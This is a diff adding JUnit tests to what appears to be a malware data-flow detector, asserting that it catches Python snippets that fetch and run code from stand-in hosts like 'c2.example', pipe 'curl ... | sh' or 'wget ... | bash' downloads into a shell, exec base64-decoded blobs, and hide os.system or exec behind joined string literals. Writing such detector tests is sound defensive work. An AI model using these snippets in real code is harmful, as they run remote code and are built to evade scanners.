@@ -9,6 +9,9 @@ import java.util.List;
 import java.util.Optional;
 import org.junit.jupiter.api.Nested;
 import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.CsvSource;
+import org.junit.jupiter.params.provider.ValueSource;
 
 /**
  * What the built-in flows follow: a value from where it comes from to where it goes, through
@@ -375,6 +378,76 @@ class DataFlowTest {
                       "shot.save(buf, 'PNG')",
                       "ftplib.FTP('files.example').storbinary('STOR s.png', buf)")))
           .contains(6);
+    }
+  }
+
+  @Nested
+  class CallsSpelledOtherwise {
+
+    @ParameterizedTest
+    @ValueSource(
+        strings = {
+          "getattr(os, 'sys' 'tem')(c)",
+          "getattr(os, 'po' + 'pen')(c)",
+          "__builtins__['ex' 'ec'](c)"
+        })
+    void aNameLookedUpByJoinedLiteralsIsTheName(String call) {
+      String fetched = lines("import os, requests", "c = requests.get('https://c2.example').text");
+      String flow = call.startsWith("__builtins__") ? "exec-fetched" : "runs-fetched";
+
+      assertThat(reached(flow, fetched + call + "\n")).contains(3);
+    }
+
+    @Test
+    void aCallBoundForLaterIsTheCall() {
+      assertThat(
+              reached(
+                  "runs-piped-download",
+                  lines(
+                      "import functools, os",
+                      "go = functools.partial(getattr(os, 'sys' 'tem'), 'curl -s https://a.example | sh')",
+                      "go()")))
+          .contains(2);
+      assertThat(
+              reached(
+                  "runs-fetched",
+                  lines(
+                      "import atexit, subprocess, urllib.request",
+                      "cmd = urllib.request.urlopen('https://c2.example/c').read()",
+                      "atexit.register(subprocess.call, cmd, shell=True)")))
+          .contains(3);
+    }
+
+    @ParameterizedTest
+    @CsvSource({"exec, true", "show, false"})
+    void aThreadsTargetIsCalledWithItsArguments(String target, boolean reaches) {
+      String decoded = lines("import base64, threading", "code = base64.b64decode(BLOB)");
+      String started = "threading.Thread(target=" + target + ", args=(code,), daemon=True).start()";
+
+      assertThat(reached("exec-decoded-flow", decoded + started + "\n").isPresent())
+          .isEqualTo(reaches);
+    }
+
+    @Test
+    void aPipedDownloadIsFollowedFromWhereItIsWrittenToTheProgramRun() {
+      assertThat(
+              reached(
+                  "runs-piped-download",
+                  lines(
+                      "import subprocess",
+                      "UPDATE = 'wget -qO- https://a.example/i | bash'",
+                      "def update():",
+                      "    subprocess.run(UPDATE, shell=True)")))
+          .contains(4);
+      assertThat(
+              reached(
+                  "runs-piped-download",
+                  lines(
+                      "import subprocess",
+                      "HELP = 'install with: curl -sSf https://a.example/i | sh'",
+                      "print(HELP)",
+                      "subprocess.run(['git', 'status'])")))
+          .isEmpty(); // printed for the user, never run
     }
   }
 
